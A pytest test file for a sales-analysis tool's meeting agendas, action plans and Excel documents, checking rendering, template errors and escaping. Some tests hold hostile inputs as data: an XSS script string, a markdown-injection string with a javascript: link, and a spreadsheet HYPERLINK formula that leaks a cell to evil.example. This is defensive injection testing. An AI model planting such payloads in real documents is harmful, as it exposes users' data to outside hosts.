"""Meeting documents: the five points, the action plan, the team summary; escaping;
template errors naming file and line; the Excel document reads back into the log."""

import html
import re
import shutil

import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st

import salesanalysis as sa
from salesanalysis.store.roster import members
from salesanalysis.analyses import actions, findings
from salesanalysis.present import meeting
from salesanalysis.reports import rep_review as review
from salesanalysis.errors import TemplateError

from builders import HOSTILE, small_demo

PERIOD = "2024-09"


@pytest.fixture(scope="module")
def wb(tmp_path_factory):
    book = sa.open_workbook(small_demo(tmp_path_factory.mktemp("wb")))
    yield book
    book.close()


@pytest.fixture(scope="module")
def context(wb):
    return meeting.review_context(wb, rep="R002", period=PERIOD)


def test_agenda_follows_the_five_points_with_the_review_s_numbers(wb, context):
    summary = review.attainment_summary(wb, rep="R002", period=PERIOD)
    actual = f"{summary.loc[summary['span'] == 'period', 'actual'].iloc[0]:,.0f}"
    text = meeting.render("agenda", context)
    headings = [line for line in text.splitlines() if line.startswith("## ")]
    assert headings == ["## 0. Actions agreed last time",
                        f"## 1. Activity in {PERIOD} against plan", "## 2. Plan for 2024-10",
                        "## 3. Order book, deviations and forecast",
                        "## 4. Attainment against budget", "## 5. Actions to agree"]
    assert f"| period | {actual} |" in text
    page = meeting.render("agenda", context, format="html")
    assert "<h3>4. Attainment against budget</h3>" in page and actual in page


def test_action_plan_lists_every_proposed_action_once_owned_by_name(wb, context):
    found = findings.findings(wb, rep="R002", period=PERIOD)
    assert len(found)
    text = meeting.render("action_plan", context)
    page = meeting.render("action_plan", context, format="html")
    name = review.rep_info(wb, rep="R002")["name"]
    for row in found.itertuples():
        assert text.count(f"| {row.action.replace('|', chr(92) + '|')} | {name} (R002) |") == 1
        assert f"<td>{row.due}</td>" in page
    # every criterion of an action two findings propose is kept
    for criterion in found["criterion"]:
        assert criterion.replace("|", chr(92) + "|") in text


def test_user_text_is_escaped_in_both_formats(wb):
    hostile = meeting.review_context(wb, rep="R001", period=PERIOD)
    hostile["earlier"] = [{"text": "a | b " + HOSTILE, "owner": "x", "due_at": "", "status": "open",
                           "kpi": "", "kpi_before": "", "kpi_now": "", "moved": "",
                           "criterion": "", "action_id": "A1"}]
    for document in ("agenda", "action_plan"):
        text = meeting.render(document, hostile)
        page = meeting.render(document, hostile, format="html")
        assert HOSTILE not in text and HOSTILE not in page
        assert "&lt;script>alert(1)&lt;/script>" in text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "a \\| b &lt;script>" in meeting.render("agenda", hostile)  # one table cell


def test_a_template_error_names_its_file_and_line(tmp_path, context):
    folder = tmp_path / "mine"
    shutil.copytree(meeting.TEMPLATES, folder)
    broken = folder / "agenda.md.j2"
    broken.write_text("# Agenda\n\n{% for x in activity %}\n{{ x.label }}\n")
    with pytest.raises(TemplateError, match=r"agenda\.md\.j2, line 4: .*endfor"):
        meeting.render("agenda", context, templates=folder)
    broken.write_text("# Agenda\n{{ rep.nickname }}\n")
    with pytest.raises(TemplateError, match=r"agenda\.md\.j2, line 2: UndefinedError.*nickname"):
        meeting.render("agenda", context, templates=folder)
    with pytest.raises(TemplateError, match="no template team_summary.html.j2 in"):
        (folder / "team_summary.html.j2").unlink()
        meeting.render("team_summary", {}, format="html", templates=folder)


def test_an_edited_copy_of_the_templates_is_used(tmp_path, context):
    folder = tmp_path / "mine"
    shutil.copytree(meeting.TEMPLATES, folder)
    plan = folder / "action_plan.md.j2"
    plan.write_text(plan.read_text().replace("# Action plan:", "# Our plan:"))
    assert meeting.render("action_plan", context, templates=folder).startswith("# Our plan: ")


def test_team_summary_counts_each_rep_s_actions(wb):
    agreed = actions.agree(wb, rep="R003", period=PERIOD)
    summary = meeting.team_context(wb, period=PERIOD)
    rows = {r["rep"]: r for r in summary["reps"]}
    assert set(rows) == set(members(wb)["rep_id"])
    assert rows["R003"]["open_actions"] == len(agreed) > 0
    assert rows["R004"]["open_actions"] == 0
    text = meeting.render("team_summary", summary)
    assert all(f"({rep}) |" in text for rep in rows)
    assert HOSTILE not in meeting.render("team_summary", summary, format="html")


def test_the_meeting_document_reads_back_into_the_log(wb, tmp_path):
    path = meeting.meeting_document(wb, tmp_path / "R005.meeting.xlsx", rep="R005",
                                    period=PERIOD)
    sheets = pd.read_excel(path, sheet_name=None)
    assert set(sheets) == {"agenda", "actions", "read me"}
    proposed = findings.findings(wb, rep="R005", period=PERIOD)
    sheet = sheets["actions"]
    assert len(sheet) == len(proposed) >= 2
    assert set(sheets["agenda"]["point"].str[:2]) >= {"1.", "2.", "3.", "4.", "5."}
    # in the meeting: the first action is not agreed, the second is dropped later
    kept = sheet.iloc[1:].copy()
    kept.loc[kept.index[0], "status"] = "dropped"
    with pd.ExcelWriter(path) as writer:
        kept.to_excel(writer, sheet_name="actions", index=False)
    actions.import_file(wb, path)
    log = actions.log(wb, rep="R005").set_index("action_id")
    assert list(log.index) == sorted(kept["action_id"])
    assert log.loc[kept["action_id"].iloc[0], "status"] == "dropped"


def test_write_pack_writes_the_agenda_plan_and_document(wb, tmp_path):
    written = meeting.write_pack(wb, rep="R006", period=PERIOD, stem=tmp_path / "R006")
    assert [p.name for p in written] == ["R006.agenda.md", "R006.action-plan.md",
                                         "R006.action-plan.html", "R006.meeting.xlsx"]
    assert all(p.stat().st_size > 0 for p in written)


MARKDOWN_HOSTILE = "**x** [a](javascript:alert(1)) _y_ `z` ![i](http://e/i.png)\n# Injected"


def _html(markdown_text):
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_text)


def test_markdown_shows_names_and_texts_as_typed(wb):
    hostile = meeting.review_context(wb, rep="R002", period=PERIOD)
    clean = {document: _html(meeting.render(document, hostile))
             for document in ("agenda", "action_plan")}
    hostile["rep"] = {**hostile["rep"], "name": MARKDOWN_HOSTILE, "team": "\r\n## Injected team"}
    hostile["earlier"] = [{"text": MARKDOWN_HOSTILE, "owner": "- x", "due_at": "",
                           "status": "open", "kpi": "", "kpi_before": "", "kpi_now": "",
                           "moved": "", "criterion": "", "action_id": "A1"}]
    hostile["actions"] = [{**a, "action": MARKDOWN_HOSTILE, "criterion": "1. first"}
                          for a in hostile["actions"]]
    for document in ("agenda", "action_plan"):
        text = meeting.render(document, hostile)
        assert "\\*\\*x\\*\\* \\[a\\](javascript:alert(1))" in text
        assert not [line for line in text.splitlines()
                    if line.lstrip("#").strip().startswith("Injected")]
        page = _html(text)
        for tag in ("<strong>", "<em>", "<code>", "<a ", "<img", "<ol>", "<blockquote>"):
            assert page.count(tag) == clean[document].count(tag), (document, tag)
        headings = re.findall(r"<h\d>", page)
        assert headings == re.findall(r"<h\d>", clean[document])
        assert "**x** [a](javascript:alert(1)) _y_ `z` ![i](http://e/i.png) # Injected" in page


@pytest.fixture(scope="module")
def one_value(tmp_path_factory):
    """Templates that put ``value`` where the agenda puts data: a paragraph's start, a
    list item, a heading and a table cell."""
    folder = tmp_path_factory.mktemp("templates")
    shutil.copytree(meeting.TEMPLATES, folder, dirs_exist_ok=True)
    (folder / "agenda.md.j2").write_text(
        "{{ value }}\n\n- item {{ value }}\n\n# heading {{ value }}\n\n"
        "| head |\n|---|\n| {{ value|cell }} |\n")
    return folder


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(list("ab1 _*[]()!#>-+=.`~|\\<&;:/$\n\r\t\x01é'\"{}")
                                + ["&amp;", "&#65;", "http://", "<a>", "***", "---", "1."]),
                max_size=12).map("".join))
def test_any_text_shows_literally_wherever_it_lands(one_value, value):
    page = _html(meeting.render("agenda", {"value": value}, templates=one_value))
    shown = " ".join(value.replace("\x01", "\ufffd").split())
    found = dict(re.findall(r"<(p|li|h1|td)>(.*?)</\1>", page, re.S))
    assert set(found) == ({"li", "h1", "td"} | ({"p"} if shown else set())), page
    prefix = {"p": "", "li": "item ", "h1": "heading ", "td": ""}
    for tag, inner in found.items():
        assert "<" not in inner, page  # no markup made from the text
        assert " ".join(html.unescape(inner).split()) == (prefix[tag] + shown).strip(), page


def test_the_meeting_document_keeps_formula_like_text_as_text(wb, tmp_path):
    import openpyxl

    texts = ['=HYPERLINK("http://evil.example/?leak="&B2,"Open")', "+1", "-1+2", "@A1"]
    ids = [actions.add(wb, rep="R007", text=t, owner=t, period="2024-08") for t in texts]
    path = meeting.meeting_document(wb, tmp_path / "R007.meeting.xlsx", rep="R007",
                                    period=PERIOD)
    cells = [c for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows()
             for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    agenda = pd.read_excel(path, sheet_name="agenda")
    assert set(texts) <= set(agenda["item"])
    reps_before = wb.table("reps").to_pandas()
    report = actions.import_file(wb, path)  # reads back: no text lost to a formula
    log = actions.log(wb, rep="R007").set_index("action_id")
    assert log.loc[ids, "text"].tolist() == log.loc[ids, "owner"].tolist() == texts
    assert [r.table for r in report.results] == ["actions"]
    assert {i.split("[")[1].split("]")[0] for i in report.ignored} == {"agenda", "read me"}
    pd.testing.assert_frame_equal(wb.table("reps").to_pandas(), reps_before)


def test_a_stored_control_character_does_not_break_the_pack(wb, tmp_path):
    c0 = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0b, 0x0c, *range(0x0e, 0x20)])
    actions.add(wb, rep="R008", text="placeholder", period="2024-08")
    row = actions.log(wb, rep="R008").assign(text=f"call{c0}back")
    wb.import_data({"actions": row}, strict=True)  # as an older import could store it
    written = meeting.write_pack(wb, rep="R008", period=PERIOD, stem=tmp_path / "R008")
    shown = "call" + actions.PLACEHOLDER * len(c0) + "back"
    sheet = pd.read_excel(written[-1], sheet_name="actions")
    assert shown in set(sheet["text"])
    assert shown in written[0].read_text(encoding="utf-8")  # the agenda


def test_a_crm_export_s_pack_is_written_each_point_saying_what_it_lacks(tmp_path):
    """Deals only: no activities, targets or orders. The pack is still written, the
    points the data gives are there, and each other one says what it needs."""
    from salesanalysis.demo import build_profile

    build_profile(tmp_path / "crm.duckdb", "crm", reps=12, weeks=30, seed=1)
    with sa.open_workbook(tmp_path / "crm.duckdb", read_only=True) as book:
        period = review.closed_period(book)
        written = meeting.write_pack(book, rep="R001", period=period, stem=tmp_path / "R001")
        gap = review.revenue_gap(book, rep="R001", period=period)
    assert [p.name for p in written] == ["R001.agenda.md", "R001.action-plan.md",
                                         "R001.action-plan.html", "R001.meeting.xlsx"]
    agenda = written[0].read_text(encoding="utf-8")
    points = dict(re.findall(r"^## (\d)\. .*?\n\n(.*?)(?=^## |\Z)", agenda, re.S | re.M))
    assert points["1"].strip() == f"No targets for {period}."
    assert points["2"].startswith("Not available: needs table activities (no rows loaded)")
    # the order book shows the pipeline, and says what its other parts need
    assert points["3"].startswith("- Open deals: ")
    assert "- Not available: open orders (needs table orders (no rows loaded))" in points["3"]
    assert "- Weighted pipeline: unknown" in points["3"]  # no stage probabilities
    assert points["4"].startswith("Not available: needs table targets (no rows loaded)")
    assert gap.headline() in points["4"]  # the revenue bridge needs no targets
    assert "| |" not in points["1"] and "nan" not in agenda
    sheet = pd.read_excel(written[3], sheet_name="agenda")
    assert "Not available" in set(sheet["item"])
